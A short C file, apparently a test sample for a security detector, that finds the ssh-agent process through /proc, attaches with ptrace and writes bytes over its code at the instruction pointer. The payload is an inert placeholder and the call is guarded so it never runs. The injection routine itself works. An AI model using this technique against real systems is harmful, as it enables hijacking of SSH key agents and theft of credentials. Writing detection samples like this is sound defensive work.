/* Looks for the agent of keys and writes code into it.
 * expect: native-code-put-into-keeper-of-secrets
 * flags: -O2
 */
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>

/* Never true: the code is compiled and cannot run. */
static volatile int never;
static const char code[] = "INERT-INERT-INERT-INERT-";

static int act(void) {
    struct user_regs_struct regs;
    struct dirent *e;
    DIR *d = opendir("/proc");
    while ((e = readdir(d))) {
        char path[300], name[64] = {0};
        snprintf(path, sizeof path, "/proc/%s/comm", e->d_name);
        FILE *f = fopen(path, "r");
        if (!f) continue;
        fgets(name, sizeof name, f);
        fclose(f);
        if (strncmp(name, "ssh-agent", 9)) continue;
        int pid = atoi(e->d_name);
        ptrace(PTRACE_ATTACH, pid, 0, 0);
        waitpid(pid, 0, 0);
        ptrace(PTRACE_GETREGS, pid, 0, &regs);
        for (size_t i = 0; i + 8 <= sizeof code; i += 8) {
            long word;
            memcpy(&word, code + i, 8);
            ptrace(PTRACE_POKETEXT, pid, (void *)(regs.rip + i), (void *)word);
        }
        ptrace(PTRACE_SETREGS, pid, 0, &regs);
        ptrace(PTRACE_DETACH, pid, 0, 0);
    }
    return 0;
}

int main(void) { return never ? act() : 0; }
